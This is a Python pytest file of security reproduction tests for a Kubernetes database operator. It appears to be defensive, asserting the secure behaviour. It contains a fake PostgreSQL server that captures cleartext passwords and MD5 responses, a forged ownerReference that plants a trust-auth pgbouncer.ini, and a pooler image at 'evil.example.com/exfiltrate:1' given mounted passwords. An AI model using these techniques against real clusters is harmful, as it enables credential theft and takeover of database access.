"""Red-team reproductions for issue 13 (each asserts the *secure* behaviour: it fails today)."""

from __future__ import annotations

import asyncio
import hashlib
import ssl
import struct
from collections.abc import AsyncIterator
from typing import Any

import psycopg
import pytest

from marketplacedb_operator import naming
from marketplacedb_operator.settings import Settings
from security_env import API, GSS_REQUEST, NS, SSL_REQUEST, Sec, issue, make_ca, resource, sec_env, secret

SETTINGS = Settings(connect_timeout_seconds=3, resync_seconds=1)
USER, PASSWORD = "team_b_owner", "Team-B-secret-Pw-42"


class EvilServer:
    """Speaks TLS with the attacker's certificate (optional) and asks for a cleartext (3) or md5 (5)
    password; keeps every decrypted byte it receives."""

    def __init__(self, auth: int, tls: ssl.SSLContext | None) -> None:
        self.auth, self.tls, self.received, self.salt = auth, tls, bytearray(), b"\x01\x02\x03\x04"
        self.port = 0

    async def start(self) -> EvilServer:
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = int(self._server.sockets[0].getsockname()[1])
        return self

    async def stop(self) -> None:
        self._server.close()
        await self._server.wait_closed()

    async def _read(self, reader: asyncio.StreamReader, n: int) -> bytes:
        data = await reader.readexactly(n)
        self.received += data
        return data

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                (length,) = struct.unpack("!i", await self._read(reader, 4))
                body = await self._read(reader, length - 4)
                (code,) = struct.unpack("!i", body[:4])
                if code == SSL_REQUEST and self.tls is not None:
                    writer.write(b"S")
                    await writer.drain()
                    await writer.start_tls(self.tls)
                    continue
                if code in (SSL_REQUEST, GSS_REQUEST):
                    writer.write(b"N")
                    await writer.drain()
                    continue
                break
            extra = self.salt if self.auth == 5 else b""
            writer.write(b"R" + struct.pack("!ii", 8 + len(extra), self.auth) + extra)
            await writer.drain()
            await self._read(reader, 1)
            (length,) = struct.unpack("!i", await self._read(reader, 4))
            await self._read(reader, length - 4)
            fields = b"SFATAL\0C28P01\0Mpassword authentication failed\0\0"
            writer.write(b"E" + struct.pack("!i", len(fields) + 4) + fields)
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
            pass
        finally:
            writer.close()


@pytest.fixture
async def sec(kube_api: Any, kube_objects: Any, kube_client: Any) -> AsyncIterator[Sec]:
    async with sec_env(kube_api, kube_objects, kube_client, SETTINGS) as env:
        # Team B's credentials Secret, opted in for *their* MarketplaceDBs (same namespace). The
        # attacker edits one of them (update on MarketplaceDBs is all it takes): the binding holds, so
        # what protects the password is require_auth (R1, R2) and the declared keys (R2b).
        await env.objects.create(secret("team-b-db", {"username": USER, "password": PASSWORD}, opted_in=True,
                                        bound="shop,attacker"))
        yield env


# --- R1: verify-full with a CA the attacker supplies (ConfigMap, no opt-in) -> cleartext password --

async def test_r1_verify_full_with_attacker_ca_sends_cleartext_password(sec: Sec, tmp_path: Any) -> None:
    ca = make_ca(tmp_path, "evil-ca")
    cert, key = issue(tmp_path, ca, "evil", "127.0.0.1", san="IP:127.0.0.1")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(cert), str(key))
    evil = await EvilServer(auth=3, tls=ctx).start()
    try:
        await sec.objects.create({"apiVersion": "v1", "kind": "ConfigMap",
                                  "metadata": {"name": "evil-ca", "namespace": NS},
                                  "data": {"ca.crt": ca[0].read_text()}})
        await sec.objects.create(resource({
            "host": "127.0.0.1", "port": evil.port, "dbname": "x", "sslMode": "verify-full",
            "credentialsSecretRef": {"name": "team-b-db"}, "tls": {"caConfigMapRef": {"name": "evil-ca"}}},
            name="attacker"))
        await sec.reconcile("attacker")
    finally:
        await evil.stop()
    assert USER.encode() in evil.received  # the startup packet reached the attacker's host
    assert PASSWORD.encode() not in evil.received, "team B's password arrived in cleartext"


# --- R2: default sslMode, server asks for md5 -> a password-equivalent, offline-crackable hash ------

async def test_r2_md5_challenge_yields_crackable_hash(sec: Sec) -> None:
    evil = await EvilServer(auth=5, tls=None).start()
    try:
        await sec.objects.create(resource({
            "host": "127.0.0.1", "port": evil.port, "dbname": "x",
            "credentialsSecretRef": {"name": "team-b-db"}}, name="attacker"))
        await sec.reconcile("attacker")
    finally:
        await evil.stop()
    inner = hashlib.md5(PASSWORD.encode() + USER.encode()).hexdigest()
    response = b"md5" + hashlib.md5(inner.encode() + evil.salt).hexdigest().encode()
    # A dictionary attack offline: one MD5 pair per guess verifies a guess against this.
    assert response not in evil.received, "md5 response (offline-crackable) sent to an attacker-chosen host"
    # An md5 role gets a condition that says what to do (and no server text).
    cond = sec.condition("DatabaseReachable", "attacker")
    assert cond["reason"] == "AuthenticationFailed" and "SCRAM" in cond["message"], cond


# --- R3: forged controller ownerReference on an object the attacker creates ------------------------

async def test_r3_forged_owner_reference_is_trusted(sec: Sec, fresh_db: Any) -> None:
    with psycopg.connect(fresh_db.dsn, autocommit=True) as conn:
        conn.execute("CREATE TABLE items (id int PRIMARY KEY)")
    await sec.objects.create(secret("own", {"username": fresh_db.owner, "password": fresh_db.owner_password},
                                    opted_in=True))
    pooler = naming.pooler_name("shop")
    database = {"host": fresh_db.server.host, "port": fresh_db.server.port, "dbname": fresh_db.name,
                "sslMode": "disable", "credentialsSecretRef": {"name": "own"}}
    # The attacker creates the MarketplaceDB with the pooler on, but the DB unreachable for now
    # (wrong port): no pooler object is created (WaitingForDatabase); the uid is now known.
    await sec.objects.create(resource({**database, "port": 1}, pooler={"enabled": True}))
    await sec.reconcile()
    assert sec.objects.get("v1", "ConfigMap", pooler, NS) is None
    uid = sec.objects.get(API, "MarketplaceDB", "shop", NS)["metadata"]["uid"]
    forged = {"apiVersion": API, "kind": "MarketplaceDB", "name": "shop", "uid": uid, "controller": True}
    # ... pre-creates the pooler ConfigMap (create ConfigMap is all it needs), forging the ref.
    evil_ini = "[databases]\n* = host=10.0.0.1 port=6379\n[pgbouncer]\nauth_type = trust\nlisten_addr = *\n"
    await sec.objects.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": pooler, "namespace": NS, "ownerReferences": [forged],
        "labels": naming.labels("shop", "pooler")}, "data": {"pgbouncer.ini": evil_ini}})
    # ... and fixes the port.
    body = sec.objects.get(API, "MarketplaceDB", "shop", NS)
    await sec.objects.patch(body, {"spec": {"database": database}})
    await sec.reconcile()
    cond = sec.condition("PoolerAvailable")
    live = sec.objects.get("v1", "ConfigMap", pooler, NS)
    if cond.get("reason") != "Conflict":
        spec_hash = live["metadata"]["annotations"]["marketplacedb.io/spec-hash"]  # computable offline
        # Impact: with the hash it would have computed (render + its own password), the attacker's
        # pgbouncer.ini is never rewritten and the operator's Deployment mounts it.
        await sec.objects.delete(live)
        await sec.objects.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
            "name": pooler, "namespace": NS, "ownerReferences": [forged],
            "annotations": {"marketplacedb.io/spec-hash": spec_hash},
            "labels": naming.labels("shop", "pooler")}, "data": {"pgbouncer.ini": evil_ini}})
        await sec.reconcile()
        assert sec.objects.get("v1", "ConfigMap", pooler, NS)["data"]["pgbouncer.ini"] == evil_ini
        deployment = sec.objects.get("apps/v1", "Deployment", pooler, NS)
        volumes = deployment["spec"]["template"]["spec"]["volumes"]
        assert {"name": "config", "configMap": {"name": pooler}} in volumes
    # Secure behaviour: an object the operator did not create is a Conflict, whatever refs it carries.
    assert cond.get("reason") == "Conflict", (cond, sec.objects.get("v1", "ConfigMap", pooler, NS)["metadata"])
    assert live["data"]["pgbouncer.ini"] == evil_ini  # left alone, and nothing mounts it:
    assert sec.objects.get("apps/v1", "Deployment", pooler, NS) is None


# --- R4: spec.pooler.image is any image, and gets the owner's password mounted ----------------------

async def test_r4_pooler_image_is_not_restricted(sec: Sec, fresh_db: Any) -> None:
    # Team B's opted-in Secret opens fresh_db (same namespace, opted in for B's own MarketplaceDB).
    await sec.objects.create(secret("team-b-real", {"username": fresh_db.owner, "password": fresh_db.owner_password},
                                    opted_in=True, bound="attacker"))
    await sec.objects.create(resource({
        "host": fresh_db.server.host, "port": fresh_db.server.port, "dbname": fresh_db.name, "sslMode": "disable",
        "credentialsSecretRef": {"name": "team-b-real"}}, name="attacker",
        pooler={"enabled": True, "image": "evil.example.com/exfiltrate:1"}))
    await sec.reconcile("attacker")
    pooler = naming.pooler_name("attacker")
    deployment = sec.objects.get("apps/v1", "Deployment", pooler, NS)
    images = [c["image"] for c in deployment["spec"]["template"]["spec"]["containers"]] if deployment else []
    auth = sec.objects.get("v1", "Secret", naming.pooler_auth_secret_name("attacker"), NS)
    import base64
    userlist = base64.b64decode(auth["data"]["userlist.txt"]).decode() if auth else ""
    assert "evil.example.com/exfiltrate:1" not in images or fresh_db.owner_password not in userlist, (
        images, "plain password in the auth file the evil image mounts")


# --- R5: a password with a line break crashes the reconcile (traceback loop, no condition) --------

async def test_r5_newline_password_is_a_condition_not_a_crash(sec: Sec, fresh_db: Any) -> None:
    from psycopg import sql
    password = "line1\nline2-Pw"
    with psycopg.connect(fresh_db.superuser_dsn, autocommit=True) as conn:
        conn.execute(sql.SQL("ALTER ROLE {} PASSWORD {}").format(sql.Identifier(fresh_db.owner), sql.Literal(password)))
    await sec.objects.create(secret("nl", {"username": fresh_db.owner, "password": password}, opted_in=True))
    await sec.objects.create(resource({
        "host": fresh_db.server.host, "port": fresh_db.server.port, "dbname": fresh_db.name, "sslMode": "disable",
        "credentialsSecretRef": {"name": "nl"}}, pooler={"enabled": True}))
    await sec.reconcile()  # raises PoolerConfigError today (outside reconcile's per-part try)
    assert sec.condition("PoolerAvailable").get("status") == "False"
    assert "line2-Pw" not in sec.everything()  # the condition names the field, never the value


# --- R6: revoking the opt-in leaves the password in the pooler's auth Secret, pooler serving -------

async def test_r6_revoked_opt_in_keeps_pooler_copy(sec: Sec, fresh_db: Any) -> None:
    import base64
    await sec.objects.create(secret("own", {"username": fresh_db.owner, "password": fresh_db.owner_password},
                                    opted_in=True))
    await sec.objects.create(resource({
        "host": fresh_db.server.host, "port": fresh_db.server.port, "dbname": fresh_db.name, "sslMode": "disable",
        "credentialsSecretRef": {"name": "own"}}, pooler={"enabled": True}))
    await sec.reconcile()
    auth_name = naming.pooler_auth_secret_name("shop")
    assert sec.objects.get("v1", "Secret", auth_name, NS) is not None
    await sec.objects.patch(sec.objects.get("v1", "Secret", "own", NS),
                            {"metadata": {"labels": {"marketplacedb.io/credentials": None}}})
    await sec.reconcile()
    assert sec.condition("DatabaseReachable").get("reason") == "SecretNotOptedIn"
    auth = sec.objects.get("v1", "Secret", auth_name, NS)
    copy = base64.b64decode(auth["data"]["userlist.txt"]).decode() if auth else ""
    deployment = sec.objects.get("apps/v1", "Deployment", naming.pooler_name("shop"), NS)
    assert deployment is None and fresh_db.owner_password not in copy, "refused Secret's password still served"


# --- R7: the pooler (PgBouncer, no require_auth) sends the password in clear to an unverified server

@pytest.mark.xfail(strict=True, reason="R7 open: PgBouncer upstream auth (pooler helper); remove when fixed")
async def test_r7_pooler_sends_cleartext_password_with_sslmode_require(pgbouncer_factory: Any, tmp_path: Any) -> None:
    from marketplacedb_operator.api.v1alpha1 import MarketplaceDBSpec
    from marketplacedb_operator.specs import pgbouncer as pgb
    from marketplacedb_operator.specs.pooler_sizing import compute_budget
    ca = make_ca(tmp_path, "any-ca")
    cert, key = issue(tmp_path, ca, "mitm", "mitm.example")  # require: not verified at all
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(cert), str(key))
    evil = await EvilServer(auth=3, tls=ctx).start()
    try:
        spec = MarketplaceDBSpec.model_validate({
            "database": {"host": "127.0.0.1", "port": evil.port, "dbname": "shopdb", "sslMode": "require",
                         "credentialsSecretRef": {"name": "owner"}}, "pooler": {"enabled": True}})
        budget = compute_budget(spec.pooler, SETTINGS, 100, 3)
        bouncer = pgbouncer_factory(pgb.render_ini(spec, budget),
                                    pgb.render_userlist(pgb.choose_credentials(USER, PASSWORD, None)))
        async def client() -> None:
            try:
                conn = await psycopg.AsyncConnection.connect(bouncer.dsn("shopdb", USER, PASSWORD), connect_timeout=5)
                await conn.execute("SELECT 1")
            except psycopg.Error:
                pass
        await asyncio.wait_for(client(), 20)
    finally:
        await evil.stop()
    assert PASSWORD.encode() not in evil.received, "PgBouncer sent the password in cleartext (sslmode require)"


# --- held: hostname mismatch under verify-full; non-opted TLS Secrets ------------------------------

async def test_h1_verify_full_wrong_hostname_sends_nothing(sec: Sec, tmp_path: Any) -> None:
    ca = make_ca(tmp_path, "ca")
    cert, key = issue(tmp_path, ca, "other", "db.other.example", san="DNS:db.other.example")
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(str(cert), str(key))
    evil = await EvilServer(auth=3, tls=ctx).start()
    try:
        await sec.objects.create({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "ca", "namespace": NS},
                                  "data": {"ca.crt": ca[0].read_text()}})
        await sec.objects.create(resource({
            "host": "127.0.0.1", "port": evil.port, "dbname": "x", "sslMode": "verify-full",
            "credentialsSecretRef": {"name": "team-b-db"}, "tls": {"caConfigMapRef": {"name": "ca"}}}))
        await sec.reconcile()
    finally:
        await evil.stop()
    assert sec.condition("DatabaseReachable")["reason"] == "TLSFailed"
    assert USER.encode() not in evil.received and PASSWORD.encode() not in evil.received


@pytest.mark.parametrize("tls", [{"caSecretRef": {"name": "plain", "key": "password"}},
                                 {"clientCertSecretRef": {"name": "plain", "certKey": "username",
                                                          "keyKey": "password"}}])
async def test_h2_tls_refs_to_non_opted_secrets_are_refused(sec: Sec, tls: dict[str, Any]) -> None:
    await sec.objects.create(secret("plain", {"username": "u", "password": "p-value-xyz"}, opted_in=False))
    await sec.objects.create(resource({"host": "127.0.0.1", "port": 1, "dbname": "x", "sslMode": "verify-full",
                                       "credentialsSecretRef": {"name": "team-b-db"}, "tls": tls},
                                      materializedViews=[{"name": "mv", "query": "SELECT 1 AS id", "uniqueKey": ["id"],
                                                          "refresh": {"schedule": "@hourly"}}]))
    await sec.reconcile()
    assert sec.condition("DatabaseReachable")["reason"] == "SecretNotOptedIn"
    assert sec.objects.list_objects("batch/v1", "CronJob", NS) == []
    assert "p-value-xyz" not in sec.everything()


# --- R1b/R2b: same roots, other paths ----------------------------------------------------------------

def test_r1b_cronjob_pods_drop_pgrequireauth_under_verify_full() -> None:
    from marketplacedb_operator.api.v1alpha1 import MarketplaceDBSpec
    from marketplacedb_operator.specs import db_tls
    spec = MarketplaceDBSpec.model_validate({"database": {
        "host": "evil.example.com", "dbname": "x", "sslMode": "verify-full",
        "credentialsSecretRef": {"name": "team-b-db"}, "tls": {"caConfigMapRef": {"name": "evil-ca"}}}})
    names = {e["name"] for e in db_tls.env(spec.database)}
    assert "PGREQUIREAUTH" in names, "refresh pods may send team B's password in clear to the attacker's host"


async def test_r2b_any_key_of_an_opted_in_secret_leaves_as_the_user_name(sec: Sec) -> None:
    await sec.objects.create(secret("team-b-app", {"username": USER, "password": PASSWORD,
                                                   "api-token": "tok_live_ABCDEF123"}, opted_in=True,
                                    bound="attacker"))
    evil = await EvilServer(auth=5, tls=None).start()
    try:
        await sec.objects.create(resource({
            "host": "127.0.0.1", "port": evil.port, "dbname": "x",
            "credentialsSecretRef": {"name": "team-b-app", "usernameKey": "api-token"}}, name="attacker"))
        await sec.reconcile("attacker")
    finally:
        await evil.stop()
    assert b"tok_live_ABCDEF123" not in evil.received
